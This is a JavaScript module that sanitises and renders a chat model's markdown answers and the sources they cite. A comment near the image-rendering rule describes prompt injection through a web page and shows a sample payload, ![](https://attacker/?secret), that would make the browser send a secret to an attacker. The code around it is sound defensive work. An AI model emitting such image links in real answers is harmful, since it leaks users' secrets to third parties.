// The UI's one renderer for answers: markdown from the model (chat, documents, database and any
// later mode) and the numbered sources an answer cites. Everything it is given is untrusted: the
// model's text can be steered by what a document or a web page says, and sources quote those
// texts verbatim.
//
// Contract: renderMarkdown() returns nodes that carry no script, no event handler, no style,
// no form, no image, and no link other than http(s)/mailto (each opening in a new tab with
// rel="noopener noreferrer"); sourcesElement() shows every field as text, and a source's URL
// becomes a link only when it is http(s).
import MarkdownIt from "markdown-it";
import DOMPurify from "dompurify";
import hljs from "highlight.js/lib/core";
import bash from "highlight.js/lib/languages/bash";
import c from "highlight.js/lib/languages/c";
import cpp from "highlight.js/lib/languages/cpp";
import csharp from "highlight.js/lib/languages/csharp";
import css from "highlight.js/lib/languages/css";
import diff from "highlight.js/lib/languages/diff";
import go from "highlight.js/lib/languages/go";
import java from "highlight.js/lib/languages/java";
import javascript from "highlight.js/lib/languages/javascript";
import json from "highlight.js/lib/languages/json";
import kotlin from "highlight.js/lib/languages/kotlin";
import markdown from "highlight.js/lib/languages/markdown";
import plaintext from "highlight.js/lib/languages/plaintext";
import python from "highlight.js/lib/languages/python";
import rust from "highlight.js/lib/languages/rust";
import shell from "highlight.js/lib/languages/shell";
import sql from "highlight.js/lib/languages/sql";
import typescript from "highlight.js/lib/languages/typescript";
import xml from "highlight.js/lib/languages/xml";
import yaml from "highlight.js/lib/languages/yaml";

// The languages answers mostly hold; each one costs bundle size (all of highlight.js is ~1 MB).
const LANGUAGES = { bash, c, cpp, csharp, css, diff, go, java, javascript, json, kotlin, markdown,
  plaintext, python, rust, shell, sql, typescript, xml, yaml };
for (const [name, grammar] of Object.entries(LANGUAGES)) hljs.registerLanguage(name, grammar);

// Guessing a language is slow on long blocks and the answer re-renders on every streamed token.
const AUTO_DETECT_MAX = 4000;
const SAFE_SCHEME = /^(?:https?:|mailto:)/i;

// A URL fit for href: absolute http(s) or mailto, else null.
export function safeUrl(url) {
  if (typeof url !== "string") return null;
  const u = url.trim();
  return SAFE_SCHEME.test(u) ? u : null;
}

const md = new MarkdownIt("default", {
  html: false,        // raw HTML in the text is shown as text
  linkify: true,
  typographer: false,
  highlight(code, info) {
    const lang = (info || "").trim().split(/\s+/)[0].toLowerCase();
    let out = null;
    if (lang && hljs.getLanguage(lang)) out = hljs.highlight(code, { language: lang, ignoreIllegals: true });
    else if (!lang && code.length <= AUTO_DETECT_MAX) out = hljs.highlightAuto(code);
    if (!out) return "";  // markdown-it escapes the block itself
    const cls = out.language ? " language-" + md.utils.escapeHtml(out.language) : "";
    return `<pre><code class="hljs${cls}">${out.value}</code></pre>\n`;
  },
});
md.validateLink = (url) => SAFE_SCHEME.test(url.trim());
// Images become links: an answer must not make the browser fetch an address by itself (a page
// could make the model write ![](https://attacker/?secret) to send it out).
md.renderer.rules.image = (tokens, idx, options, env, self) => {
  const token = tokens[idx];
  const src = token.attrGet("src");
  const alt = self.renderInlineAsText(token.children || [], options, env) || src;
  return `<a href="${md.utils.escapeHtml(src)}">${md.utils.escapeHtml(alt)}</a>`;
};
// Table cell alignment as a class: inline styles are removed below (and refused by the page's
// Content-Security-Policy).
md.core.ruler.push("align_class", (state) => {
  for (const token of state.tokens) {
    if (token.type !== "th_open" && token.type !== "td_open") continue;
    const m = /text-align:(left|right|center)/.exec(token.attrGet("style") || "");
    if (!m) continue;
    token.attrs = token.attrs.filter(([name]) => name !== "style");
    token.attrSet("class", "align-" + m[1]);
  }
});

const PURIFY = {
  ALLOWED_TAGS: ["a", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr",
    "li", "ol", "p", "pre", "s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul"],
  ALLOWED_ATTR: ["href", "title", "class", "start"],
  ALLOWED_URI_REGEXP: SAFE_SCHEME,
  RETURN_DOM_FRAGMENT: true,
};
DOMPurify.addHook("afterSanitizeAttributes", (node) => {
  if (node.nodeName !== "A") return;
  if (!node.hasAttribute("href")) return;
  node.setAttribute("target", "_blank");
  node.setAttribute("rel", "noopener noreferrer");
});

// Markdown to sanitised nodes (a DocumentFragment).
export function renderMarkdown(text) {
  return DOMPurify.sanitize(md.render(text || ""), PURIFY);
}

// A block of code (e.g. the SQL a model wrote) as a highlighted <pre><code class="hljs CLASS">.
export function codeElement(code, language, cls) {
  const out = hljs.highlight(code || "", { language, ignoreIllegals: true }).value;
  return DOMPurify.sanitize(`<pre><code class="hljs language-${language} ${cls}">${out}</code></pre>`, PURIFY);
}

// "[n] file, bytes a-b" (or page p, or record r) for a document; "[n] title" for a web page.
function sourceLabel(c) {
  if (c.url !== undefined) return `[${c.number}] ${c.title || c.url}`;
  const name = String(c.path || "").split("/").pop();
  if (c.unit === "page" || c.page) return `[${c.number}] ${name}, page ${c.page}, ${c.begin}–${c.end}`;
  if (c.unit === "record") return `[${c.number}] ${name}, record ${c.begin}`;
  return `[${c.number}] ${name}, ${c.unit === "text" ? "text" : "bytes"} ${c.begin}–${c.end}`;
}

// The numbered sources of an answer: documents' citations ({number, path, unit, page, begin, end,
// text}) and web pages' ({number, url, title, text}). A click on a source shows the quoted span;
// a web page's address is a link beside it.
export function sourcesElement(citations) {
  const box = document.createElement("div");
  box.className = "sources";
  box.textContent = "Sources";
  for (const c of citations) {
    const item = document.createElement("div");
    item.className = "source";
    const b = document.createElement("button");
    b.type = "button";
    b.className = "citation";
    b.textContent = sourceLabel(c);
    b.title = c.url !== undefined ? String(c.url) : String(c.path || "");
    item.appendChild(b);
    const href = safeUrl(c.url);
    if (href) {
      const a = document.createElement("a");
      a.className = "source-link";
      a.href = href;
      a.target = "_blank";
      a.rel = "noopener noreferrer";
      a.textContent = href;
      item.appendChild(a);
    }
    const q = document.createElement("blockquote");
    q.className = "quote";
    q.textContent = c.text || "";
    q.hidden = true;
    b.onclick = () => { q.hidden = !q.hidden; };
    item.appendChild(q);
    box.appendChild(item);
  }
  return box;
}

// An answer's body: its markdown, then its sources when it cites any.
export function answerElement(content, citations) {
  const frag = document.createDocumentFragment();
  const div = document.createElement("div");
  div.className = "content";
  div.appendChild(renderMarkdown(content));
  frag.appendChild(div);
  if (citations && citations.length) frag.appendChild(sourcesElement(citations));
  return frag;
}
